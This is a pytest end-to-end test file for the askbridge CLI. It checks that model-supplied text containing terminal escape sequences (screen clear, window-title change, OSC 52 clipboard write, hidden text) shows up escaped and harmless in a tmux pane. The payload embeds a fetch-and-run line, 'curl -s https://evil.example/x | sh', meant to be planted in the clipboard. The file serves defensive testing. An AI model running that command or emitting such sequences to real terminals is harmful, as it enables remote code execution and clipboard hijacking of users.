"""S17: text from a model never drives the terminal askbridge writes to.

A script model asks a question whose text, header, option and the agent's words carry
what a hostile model would send a terminal: a screen clear (ESC[2J), a window title
(OSC 0), a clipboard write (OSC 52, honoured: tmux runs with `set-clipboard on`), a
carriage return and hidden text (ESC[8m). `askbridge sessions show` and `askbridge demo`
print it in a real tmux pane: the screen keeps what was there before, the pane's title
and tmux's paste buffers are untouched, and the sequences show as visible escapes.
"""

from __future__ import annotations

import base64
import shlex
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from e2e_scripts import ask_step, script, text_step

from askbridge.testing import AskbridgeClient

pytestmark = pytest.mark.timeout(90)

ASKBRIDGE = [sys.executable, "-m", "askbridge.cli"]
EVIL = "curl -s https://evil.example/x | sh"
HOSTILE = (
    "\x1b[2J\x1b[H"  # clear the screen, cursor home
    "\x1b]0;TITLE-HIJACKED\x07"  # the window title
    f"\x1b]52;c;{base64.b64encode(EVIL.encode()).decode()}\x07"  # the clipboard
    "\rOVERWRITTEN \x1b[8mHIDDEN\x1b[0m"  # back to the line's start, invisible text
)


class Pane:
    """A private tmux server (its own socket, clipboard writes honoured) running one
    command or a few in a 120×50 pane, then `echo ALL-DONE` and a sleep."""

    def __init__(self, tmp_path: Path, *commands: list[str]) -> None:
        tmux = shutil.which("tmux")
        if tmux is None:
            pytest.fail("tmux is missing: apt-get install tmux (.ci/run does)")
        conf = tmp_path / "tmux.conf"
        # A clear erases what the pane shows (not kept in the scrollback, as by default).
        conf.write_text("set -g set-clipboard on\nset -g scroll-on-clear off\n")
        self.tmux = [tmux, "-S", str(tmp_path / "tmux.sock"), "-f", str(conf)]
        run = tmp_path / "pane.sh"
        lines = "".join(f"{shlex.join(argv)}\n" for argv in commands)
        run.write_text(f"echo BEFORE-IT-RAN\n{lines}echo ALL-DONE\nsleep 600\n")
        self.run("new-session", "-d", "-s", "t", "-x", "120", "-y", "50", f"sh {run}")

    def run(self, *args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [*self.tmux, *args], capture_output=True, text=True, timeout=10, check=False
        )

    def screen(self) -> str:
        """The pane and its scrollback, as text."""
        return self.run("capture-pane", "-p", "-J", "-S", "-", "-t", "t").stdout

    def wait_done(self, timeout: float = 60) -> str:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            screen = self.screen()
            if "ALL-DONE" in screen:
                return screen
            time.sleep(0.1)
        pytest.fail(f"the command did not finish; the pane showed:\n{self.screen()}")

    def title(self) -> str:
        return self.run("display-message", "-p", "-t", "t", "#{pane_title}").stdout.strip()

    def buffers(self) -> str:
        return self.run("list-buffers").stdout

    def close(self) -> None:
        self.run("kill-server")


@pytest.fixture
def pane_in(tmp_path: Path) -> Iterator[Callable[..., Pane]]:
    panes: list[Pane] = []

    def start(*commands: list[str]) -> Pane:
        pane = Pane(tmp_path, *commands)
        panes.append(pane)
        return pane

    try:
        yield start
    finally:
        for pane in panes:
            pane.close()


def assert_not_driven(pane: Pane, screen: str) -> None:
    """The terminal did nothing the text asked: nothing cleared, no title, no clipboard."""
    assert "BEFORE-IT-RAN" in screen, screen  # not cleared away
    assert "TITLE-HIJACKED" not in pane.title()
    assert EVIL not in pane.buffers() and pane.buffers() == "", pane.buffers()
    # Shown, as escapes a reader sees, the hidden text included.
    assert "\\x1b[2J\\x1b[H\\x1b]0;TITLE-HIJACKED\\x07" in screen, screen
    assert "\\rOVERWRITTEN \\x1b[8mHIDDEN\\x1b[0m" in screen, screen


async def test_S17_sessions_show_prints_a_hostile_question_escaped(
    tmp_path: Path, pane_in: Callable[..., Pane]
) -> None:
    """S17: `askbridge sessions` and `sessions show` in tmux: the question, its header and
    option, the agent's words and the answer show escaped; the terminal obeys none of it."""
    data = tmp_path / "data"
    question = {
        "id": "db",
        "header": "H\x1b]0;TITLE-HIJACKED\x07",  # headers are short (S1)
        "question": f"Which database? {HOSTILE}",
        "options": [{"label": "SQLite"}, {"label": f"Postgres {HOSTILE}"}],
    }
    model = script(ask_step(questions=[question], text=f"agent says {HOSTILE}"), text_step("ok"))
    async with AskbridgeClient.connect(data_dir=data, model=model) as client:
        client.answer_with(lambda ask: {"answers": [{"id": "db", "selected": ["SQLite"]}]})
        session = await client.new_session(cwd=str(tmp_path))
        assert await client.prompt(session, f"a prompt {HOSTILE}") == "end_turn"
    listing = [*ASKBRIDGE, "sessions", "--data-dir", str(data)]
    show = [*ASKBRIDGE, "sessions", "show", session, "--data-dir", str(data)]
    pane = pane_in(listing, show)
    screen = pane.wait_done()
    assert_not_driven(pane, screen)
    assert "agent says \\x1b[2J" in screen and "Which database? \\x1b[2J" in screen
    assert "- Postgres \\x1b[2J" in screen, screen


def test_S17_the_demo_draws_a_hostile_question_escaped(
    tmp_path: Path, pane_in: Callable[..., Pane]
) -> None:
    """S17: `askbridge demo --auto` (rich) in tmux, its script's first question and the
    agent's words carrying the sequences and rich markup: all shown, nothing obeyed."""
    patch = f"""
import sys
import askbridge.demo as demo
script = demo.load_script()
first = script["steps"][0]
hostile = {HOSTILE!r} + " [bold red]MARKUP[/bold red]"
first["text"] += hostile
asked = first["toolCalls"][0]["arguments"]["questions"][0]
asked["question"] += hostile
asked["header"] = "H\\x1b]0;TITLE-HIJACKED\\x07"
asked["options"][0]["description"] += hostile
demo.load_script = lambda: script
sys.exit(demo.run_demo(True, sys.argv[1]))
"""
    pane = pane_in([sys.executable, "-c", patch, str(tmp_path / "data")])
    screen = pane.wait_done()
    assert "done" in screen, screen  # the demo ran to its end
    assert_not_driven(pane, screen)
    assert "[bold red]MARKUP[/bold red]" in screen  # markup shown as typed, not applied
